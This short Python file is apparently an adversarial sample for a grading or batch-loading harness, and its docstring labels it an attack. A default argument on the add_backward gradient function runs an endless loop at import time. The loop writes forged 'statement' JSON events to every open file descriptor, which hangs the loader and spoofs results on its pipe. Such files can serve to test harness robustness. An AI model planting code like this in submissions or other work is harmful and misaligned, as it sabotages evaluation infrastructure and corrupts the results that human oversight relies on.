"""Attack (harm to the batch): keep the loader alive forever by sending it "statement" messages on
its own result pipe, in a default argument evaluated at load time."""

import os


def _flood():
    while True:
        for fd in range(3, 64):
            try:
                os.write(fd, b'{"event":"statement","index":0}\n')
            except OSError:
                pass


def add_backward(a, b, out, dout, _=_flood()):
    return dout, dout
